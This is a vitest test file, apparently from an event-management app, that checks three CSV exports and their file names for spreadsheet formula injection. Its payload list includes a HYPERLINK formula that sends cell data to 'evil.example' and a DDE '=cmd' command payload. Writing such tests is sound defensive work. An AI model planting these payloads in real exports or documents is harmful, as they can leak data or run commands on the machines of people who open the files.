import { endpoints } from '@huddle/contract'
import { buildGuestForm, buildGuestResponse, buildParticipant } from '@huddle/emulator-seed'
import { describe, expect, test } from 'vitest'

import { newCampus } from '../../support/campus.ts'
import { download } from '../../support/exports.ts'
import { store } from '../../support/suite.ts'

/** Texts that a spreadsheet would calculate, send somewhere or execute. */
const payloads = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  `=cmd|' /C calc'!A0`,
  '\t=1+1',
  '\r=1+1',
  '\uFF1D1+1',
  '\uFF0B1+1',
  '\uFF201+1',
  '"=1+1',
]
const phone = '+447700900123'

/** Returns what a program reads back: the guard is one apostrophe before a formula. */
const unguarded = (cell: string) => cell.replace(/^'(?=['\s\p{Cf}"]*[=+@\uFF1D\uFF0B\uFF20-])/u, '')
const isFormula = (cell: string) => /^[\s\p{Cf}"]*[=+@\uFF1D\uFF0B\uFF20-]/u.test(cell)

/**
 * Expects that no cell and no column begins like a formula, except numbers, and that all payloads
 * are restored exactly.
 */
function expectHarmless(table: string[][], column: string, given: readonly string[]): void {
  const cells = table.flat()
  expect(cells.filter((cell) => isFormula(cell) && !/^[+-]?[\d .]+$/.test(cell))).toEqual([])
  const [columns = [], ...rows] = table
  const index = columns.map(unguarded).indexOf(column)
  expect(rows.map((row) => unguarded(row[index] ?? '')).toSorted()).toEqual(given.toSorted())
}

describe('formulas in each of 3 exports', () => {
  test('formulas in the events export are escaped', async () => {
    const campus = await newCampus()
    const owner = await campus.staff({ role: 'owner' })
    const titles = [...payloads, phone]
    await campus.events(titles.length, (index) => ({
      location: (titles[index] ?? '').trim(),
      huddle_name: titles[index] ?? '',
    }))
    const table = await download(await owner.call(endpoints.downloadEvents, {}))
    expectHarmless(table, 'Huddle', titles)
    expect(table.flat()).toContain(phone)
  })

  test('formulas in the huddles export are escaped', async () => {
    const campus = await newCampus()
    const owner = await campus.staff({ role: 'owner' })
    for (const title of payloads) await campus.huddle({ title, title_lower: title })
    const table = await download(await owner.call(endpoints.downloadHuddles, {}))
    expectHarmless(
      table,
      'Name',
      payloads.map((title) => title.trim()),
    )
  })

  test('formulas in the guests export are escaped, also in questions used as columns', async () => {
    const campus = await newCampus()
    const owner = await campus.staff({ role: 'owner' })
    const event = await campus.event({ is_published: true, review_status: 'published' })
    const form = buildGuestForm({
      requirements: payloads.map((name, index) => ({
        id: `question-${index}`,
        name,
        type: 'textInput' as const,
        is_base: true,
      })),
    })
    await store.guestForms(event.id).doc(form.id).set(form)
    await Promise.all(
      payloads.map(async (last_name, index) => {
        const guest = buildParticipant({ id: `guest-${index}`, last_name })
        const response = buildGuestResponse({
          id: guest.id,
          responses: { 'question-0': { type: 'textInput', textInput: last_name } },
        })
        await store.participants(event.id).doc(guest.id).set(guest)
        await store.guestResponses(event.id).doc(guest.id).set(response)
      }),
    )
    const params = { eventId: event.id }
    const table = await download(await owner.call(endpoints.downloadGuests, { params }))
    expectHarmless(table, '=1+1', payloads)
    expect(table[0]?.map(unguarded)).toEqual(expect.arrayContaining(payloads))
  })
})

test.each(payloads)('the file name of an export cannot start like a formula: %j', async (title) => {
  const campus = await newCampus()
  const owner = await campus.staff({ role: 'owner' })
  const event = await campus.event({ title, is_published: true, review_status: 'published' })
  const params = { eventId: event.id }
  const guests = await owner.call(endpoints.downloadGuests, { params })
  expect(guests.fileName).toMatch(/^guests_[\p{L}\p{N}_-]*\.csv$/u)
  const query = { name: `${title}x` }
  const events = await owner.call(endpoints.downloadEvents, { query })
  expect(events.fileName).toMatch(/^[\p{L}\p{N}][\p{L}\p{N}_-]*\.csv$/u)
})
